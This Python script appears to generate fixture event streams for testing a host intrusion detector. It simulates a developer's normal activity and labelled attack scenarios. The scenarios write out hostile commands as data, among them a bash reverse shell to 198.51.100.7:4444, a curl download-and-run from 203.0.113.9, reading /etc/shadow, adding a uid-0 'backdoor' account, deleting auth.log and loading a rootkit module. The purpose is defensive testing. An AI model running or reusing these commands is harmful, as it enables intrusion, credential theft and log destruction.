#!/usr/bin/env python3
"""Writes the recorded event streams (JSON lines of sentinel::event::Event) used by the
detection tests. Deterministic: re-running produces the same files.

Users (see passwd): root 0, www-data 33, alice 1000 (the developer the tests watch),
bob 1001. Times are UTC in June 2026 (no DST change nearby); alice works 09:00-17:00.
"""
import json, os, calendar

HERE = os.path.dirname(os.path.abspath(__file__))
O_RDONLY, O_WRONLY, O_RDWR, O_CREAT, O_TRUNC, O_APPEND = 0, 1, 2, 0o100, 0o1000, 0o2000
SEC = 1_000_000_000


def utc(day, hour, minute=0, second=0):
    return calendar.timegm((2026, 6, day, hour, minute, second)) * SEC


class Sim:
    def __init__(self, first_id=1, next_pid=2000):
        self.events, self.id, self.next_pid, self.t = [], first_id, next_pid, 0
        self.procs = {}
        self.proc(1, 0, None, None, "systemd", ppid=0)
        self.proc(500, 0, None, None, "sshd", ppid=1)
        self.proc(600, 0, None, None, "cron", ppid=1)
        self.proc(700, 33, None, None, "nginx", ppid=1)

    def proc(self, pid, uid, auid, session, comm, ppid, euid=None):
        self.procs[pid] = dict(pid=pid, uid=uid, euid=uid if euid is None else euid,
                               auid=auid, session=session, comm=comm, ppid=ppid)

    def emit(self, pid, payload, ret=0, syscall=None, dt=0.05):
        self.t += int(dt * SEC)
        p = self.procs[pid]
        ev = dict(id=self.id, time_ns=self.t, pid=pid, tid=pid, ppid=p["ppid"], uid=p["uid"],
                  gid=p["uid"], euid=p["euid"], auid=p["auid"], session=p["session"],
                  cgroup_id=4242, comm=p["comm"][:15])
        if syscall:
            ev["syscall"] = syscall
        ev["ret"] = ret
        if ret < 0:
            ev["errno"] = {-13: "EACCES", -115: "EINPROGRESS", -2: "ENOENT"}.get(ret, "E?")
        ev.update(payload)
        self.events.append(ev)
        self.id += 1
        return ev

    def fork(self, ppid):
        child = self.next_pid
        self.next_pid += 1
        self.emit(ppid, dict(kind="fork", child_pid=child, child_tid=child))
        p = self.procs[ppid]
        self.proc(child, p["uid"], p["auid"], p["session"], p["comm"], ppid, euid=p["euid"])
        return child

    def exec(self, pid, exe, argv, euid=None, comm=None):
        p = self.procs[pid]
        p["comm"] = comm or exe.rsplit("/", 1)[-1]
        if euid is not None:
            p["euid"] = euid
        self.emit(pid, dict(kind="exec", filename=exe, argv=argv, argv_truncated=False),
                  syscall="execve")

    def run(self, ppid, exe, argv, euid=None):
        pid = self.fork(ppid)
        self.exec(pid, exe, argv, euid=euid)
        return pid

    def exit(self, pid, code=0):
        self.emit(pid, dict(kind="exit", code=code, signal=None))

    def open(self, pid, path, flags=O_RDONLY, ret=3):
        return self.emit(pid, dict(kind="open", dfd=-100, path=path, flags=flags, mode=0o644),
                         ret=ret, syscall="openat")

    def connect(self, pid, addr, port, ret=0):
        fam = "inet6" if ":" in addr else "inet"
        return self.emit(pid, dict(kind="connect", fd=3, family=fam, addr=addr, port=port),
                         ret=ret, syscall="connect")

    def login(self, user_uid, session):
        """sshd accepts a login: sshd[500] -> sshd session (root, auid set) -> bash."""
        s = self.fork(500)
        self.procs[s]["auid"], self.procs[s]["session"] = user_uid, session
        self.exec(s, "/usr/sbin/sshd", ["sshd:", "alice", "[priv]"])
        sh = self.fork(s)
        self.procs[sh]["uid"] = self.procs[sh]["euid"] = user_uid
        self.exec(sh, "/bin/bash", ["-bash"])
        self.open(sh, "/home/alice/.bashrc")
        return sh

    def write(self, name):
        with open(os.path.join(HERE, name), "w") as f:
            for e in self.events:
                f.write(json.dumps(e, separators=(",", ":")) + "\n")


def dev_session(s, sh, day, variant):
    """Ordinary developer work from one shell."""
    ls = s.run(sh, "/usr/bin/ls", ["ls", "-l"])
    s.open(ls, "/etc/passwd")
    s.exit(ls)
    vim = s.run(sh, "/usr/bin/vim", ["vim", f"src/file{variant % 5}.rs"])
    s.open(vim, f"/home/alice/proj/src/file{variant % 5}.rs", O_WRONLY | O_CREAT | O_TRUNC)
    s.open(vim, "/etc/vim/vimrc")
    s.exit(vim)
    git = s.run(sh, "/usr/bin/git", ["git", "status"])
    s.open(git, "/home/alice/proj/.git/HEAD")
    s.open(git, "/home/alice/.gitconfig")
    s.exit(git)
    if variant % 2 == 0:
        git = s.run(sh, "/usr/bin/git", ["git", "push"])
        ssh = s.run(git, "/usr/bin/ssh", ["ssh", "git@github.com"])
        s.open(ssh, "/home/alice/.ssh/id_ed25519")
        s.open(ssh, "/etc/ssh/ssh_config")
        s.connect(ssh, "140.82.112.3", 22)
        s.exit(ssh)
        s.exit(git)
    cargo = s.run(sh, "/home/alice/.cargo/bin/cargo", ["cargo", "build"])
    if variant % 3 == 0:
        s.connect(cargo, "151.101.1.137", 443)
    rustc = s.run(cargo, "/home/alice/.rustup/toolchains/stable/bin/rustc", ["rustc", "--crate-name", "proj"])
    s.open(rustc, "/home/alice/proj/src/main.rs")
    s.open(rustc, "/home/alice/proj/target/debug/proj", O_WRONLY | O_CREAT | O_TRUNC)
    cc = s.run(rustc, "/usr/bin/cc", ["cc", "-o", "proj"])
    s.open(cc, "/tmp/ccA1b2.o", O_WRONLY | O_CREAT | O_TRUNC)
    s.exit(cc)
    s.exit(rustc)
    s.exit(cargo)
    cat = s.run(sh, "/usr/bin/cat", ["cat", "/etc/hosts"])
    s.open(cat, "/etc/hosts")
    s.exit(cat)
    py = s.run(sh, "/usr/bin/python3", ["python3", "tools/gen.py"])
    s.open(py, "/home/alice/proj/tools/gen.py")
    s.exit(py)
    grep = s.run(sh, "/usr/bin/grep", ["grep", "-r", "TODO", "src"])
    s.exit(grep)
    make = s.run(sh, "/usr/bin/make", ["make", "docs"])
    s.exit(make)


def root_cron(s, day, hour):
    """Root's hourly housekeeping: cron -> sh -> logrotate (maintains logs legitimately)."""
    sh = s.run(600, "/bin/sh", ["/bin/sh", "-c", "logrotate /etc/logrotate.conf"])
    lr = s.run(sh, "/usr/sbin/logrotate", ["logrotate", "/etc/logrotate.conf"])
    s.open(lr, "/etc/logrotate.conf")
    s.emit(lr, dict(kind="rename", old_path="/var/log/syslog", new_path="/var/log/syslog.1", flags=0),
           syscall="rename")
    s.open(lr, "/var/log/syslog", O_WRONLY | O_CREAT | O_TRUNC)
    s.exit(lr)
    s.exit(sh)


def web(s):
    """nginx serves files."""
    s.open(700, "/var/www/html/index.html")
    s.open(700, "/var/log/nginx/access.log", O_WRONLY | O_APPEND | O_CREAT)


def baseline():
    s = Sim(first_id=1, next_pid=2000)
    session = 10
    for day in (15, 16, 17):
        for hour in range(9, 17):
            s.t = utc(day, hour, 5)
            root_cron(s, day, hour)
            web(s)
            sh = s.login(1000, session)
            session += 1
            for v in range(3):
                dev_session(s, sh, day, hour + v)
                s.t += 40 * SEC
            s.exit(sh)
    s.write("baseline.jsonl")


def scenario(name, start, body):
    """A stream played after the baseline: alice logs in, then `body` runs."""
    s = Sim(first_id=start * 1000, next_pid=start * 100)
    s.t = utc(18, 11, 0)
    sh = s.login(1000, 900 + start)
    body(s, sh)
    s.write(f"{name}.jsonl")


def benign(s, sh):
    for v in range(4):
        dev_session(s, sh, 18, 20 + v)
        s.t += 70 * SEC
    test = s.run(sh, "/home/alice/.cargo/bin/cargo", ["cargo", "test"])
    t = s.run(test, "/home/alice/proj/target/debug/deps/proj-3f2a1b", ["proj-3f2a1b"])
    s.open(t, "/home/alice/proj/tests/data/x.json")
    s.exit(t)
    s.exit(test)
    apt = s.run(sh, "/usr/bin/apt-cache", ["apt-cache", "policy", "curl"])
    s.open(apt, "/var/lib/apt/lists/deb.debian.org_debian_dists_bookworm_InRelease")
    s.exit(apt)
    dpkg = s.run(sh, "/usr/bin/dpkg", ["dpkg", "-l"])
    s.open(dpkg, "/var/lib/dpkg/status")
    s.exit(dpkg)
    less = s.run(sh, "/usr/bin/less", ["less", "/var/log/dpkg.log"])
    s.open(less, "/var/log/dpkg.log")
    s.exit(less)
    git = s.run(sh, "/usr/bin/git", ["git", "commit", "-am", "wip"])
    s.open(git, "/home/alice/proj/.git/index", O_WRONLY | O_CREAT | O_TRUNC)
    s.exit(git)


def credential_access(s, sh):
    sudo = s.run(sh, "/usr/bin/sudo", ["sudo", "-s"], euid=0)
    s.procs[sudo]["uid"] = 0
    root = s.run(sudo, "/bin/bash", ["bash"])
    py = s.run(root, "/usr/bin/python3", ["python3", "-c", "print(open('/etc/shadow').read())"])
    s.open(py, "/etc/shadow")


def exec_tmp(s, sh):
    curl = s.run(sh, "/usr/bin/curl", ["curl", "-o", "/tmp/.x/kworker", "http://203.0.113.9/k"])
    s.connect(curl, "203.0.113.9", 80)
    s.open(curl, "/tmp/.x/kworker", O_WRONLY | O_CREAT | O_TRUNC)
    s.exit(curl)
    s.run(sh, "/tmp/.x/kworker", ["kworker"])


def exec_memfd(s, sh):
    py = s.run(sh, "/usr/bin/python3", ["python3", "-c", "import os; ..."])
    s.emit(py, dict(kind="memfd_create", name="payload", flags=1), ret=3, syscall="memfd_create")
    s.exec(py, "/proc/self/fd/3", ["payload"], comm="3")


def service_shell(s, sh):
    w = s.fork(700)
    s.exec(w, "/usr/sbin/nginx", ["nginx: worker process"])
    php = s.run(w, "/usr/sbin/php-fpm8.2", ["php-fpm: pool www"])
    shell = s.run(php, "/bin/sh", ["sh", "-c", "id; uname -a"])
    s.run(shell, "/usr/bin/id", ["id"])


def reverse_shell(s, sh):
    py = s.run(sh, "/usr/bin/python3", ["python3", "-c", "import socket,os,pty;..."])
    s.connect(py, "198.51.100.7", 4444)
    s.exec(py, "/bin/sh", ["sh", "-i"])


def bash_tcp(s, sh):
    b = s.run(sh, "/bin/bash", ["bash", "-c", "bash -i >& /dev/tcp/198.51.100.7/4444 0>&1"])
    s.connect(b, "198.51.100.7", 4444)


def new_destination(s, sh):
    curl = s.run(sh, "/usr/bin/curl", ["curl", "https://203.0.113.50:8443/"])
    s.connect(curl, "203.0.113.50", 8443, ret=-115)
    s.connect(curl, "140.82.112.3", 22)


def privilege_escalation(s, sh):
    exp = s.run(sh, "/home/alice/exploit", ["./exploit"])
    s.emit(exp, dict(kind="set_uid", ruid=0, euid=0, suid=0), syscall="setresuid")
    s.procs[exp]["uid"] = s.procs[exp]["euid"] = 0
    s.run(exp, "/bin/sh", ["sh"])


def suid_shell(s, sh):
    s.run(sh, "/home/alice/.cache/rootsh", ["rootsh", "-p"], euid=0)


def unusual_sudo(s, sh):
    sudo = s.run(sh, "/usr/bin/sudo", ["sudo", "id"], euid=0)
    s.exit(sudo)


def ptrace(s, sh):
    gdb = s.run(sh, "/usr/bin/python3", ["python3", "inject.py", "500"])
    s.emit(gdb, dict(kind="ptrace", request=16, request_name="PTRACE_ATTACH", target_pid=500),
           syscall="ptrace")
    s.emit(gdb, dict(kind="ptrace", request=5, request_name="PTRACE_POKEDATA", target_pid=500),
           syscall="ptrace")


def mass_read(s, sh):
    tar = s.run(sh, "/usr/bin/tar", ["tar", "czf", "/tmp/loot.tgz", "/home/bob"])
    for i in range(25):
        s.open(tar, f"/home/bob/docs/report{i}.txt")
    s.open(tar, "/tmp/loot.tgz", O_WRONLY | O_CREAT | O_TRUNC)


def persistence(s, sh):
    s.open(sh, "/home/alice/.ssh/authorized_keys", O_WRONLY | O_APPEND | O_CREAT)
    ct = s.run(sh, "/usr/bin/crontab", ["crontab", "-"])
    s.open(ct, "/var/spool/cron/crontabs/tmp.X1", O_WRONLY | O_CREAT)
    s.emit(ct, dict(kind="rename", old_path="/var/spool/cron/crontabs/tmp.X1",
                    new_path="/var/spool/cron/crontabs/alice", flags=0), syscall="rename")


def log_tampering(s, sh):
    sudo = s.run(sh, "/usr/bin/sudo", ["sudo", "-s"], euid=0)
    s.procs[sudo]["uid"] = 0
    root = s.run(sudo, "/bin/bash", ["bash"])
    rm = s.run(root, "/usr/bin/rm", ["rm", "-f", "/var/log/auth.log"])
    s.emit(rm, dict(kind="unlink", dfd=-100, path="/var/log/auth.log", flags=0), syscall="unlinkat")
    s.open(root, "/var/log/wtmp", O_WRONLY | O_CREAT | O_TRUNC)
    mv = s.run(root, "/usr/bin/mv", ["mv", "/var/log/syslog", "/tmp/s"])
    s.emit(mv, dict(kind="rename", old_path="/var/log/syslog", new_path="/tmp/s", flags=0),
           syscall="renameat2")


def account_change(s, sh):
    sudo = s.run(sh, "/usr/bin/sudo", ["sudo", "-s"], euid=0)
    s.procs[sudo]["uid"] = 0
    root = s.run(sudo, "/bin/bash", ["bash"])
    ua = s.run(root, "/usr/sbin/useradd", ["useradd", "-o", "-u", "0", "backdoor"])
    s.open(ua, "/etc/passwd+", O_WRONLY | O_CREAT)
    s.emit(ua, dict(kind="rename", old_path="/etc/passwd+", new_path="/etc/passwd", flags=0),
           syscall="rename")
    s.exit(ua)
    s.open(root, "/etc/passwd", O_WRONLY | O_APPEND)


def discovery(s, sh):
    for argv in (["id"], ["whoami"], ["uname", "-a"], ["hostname"], ["ss", "-tunap"],
                 ["cat", "/etc/passwd"], ["find", "/", "-perm", "-4000"]):
        p = s.run(sh, "/usr/bin/" + argv[0], argv)
        s.exit(p)
        s.t += 3 * SEC


def bpf_module(s, sh):
    sudo = s.run(sh, "/usr/bin/sudo", ["sudo", "-s"], euid=0)
    s.procs[sudo]["uid"] = 0
    root = s.run(sudo, "/bin/bash", ["bash"])
    ld = s.run(root, "/home/alice/loader", ["./loader"])
    s.emit(ld, dict(kind="bpf", cmd=5, cmd_name="BPF_PROG_LOAD"), ret=7, syscall="bpf")
    s.run(root, "/usr/sbin/insmod", ["insmod", "/home/alice/rk.ko"])


def off_hours(s, sh):
    pass  # the login itself happens at 03:00; see main


def main():
    baseline()
    scenario("benign", 1, benign)
    for i, (name, body) in enumerate([
        ("credential_access", credential_access), ("exec_tmp", exec_tmp),
        ("exec_memfd", exec_memfd), ("service_shell", service_shell),
        ("reverse_shell", reverse_shell), ("bash_tcp", bash_tcp),
        ("new_destination", new_destination), ("privilege_escalation", privilege_escalation),
        ("suid_shell", suid_shell), ("unusual_sudo", unusual_sudo), ("ptrace", ptrace),
        ("mass_read", mass_read), ("persistence", persistence),
        ("log_tampering", log_tampering), ("account_change", account_change),
        ("discovery", discovery), ("bpf_module", bpf_module),
    ]):
        scenario(name, 10 + i, body)
    s = Sim(first_id=90_000, next_pid=9000)
    s.t = utc(18, 3, 12)
    sh = s.login(1000, 990)
    ls = s.run(sh, "/usr/bin/ls", ["ls"])
    s.exit(ls)
    s.write("off_hours.jsonl")


if __name__ == "__main__":
    main()
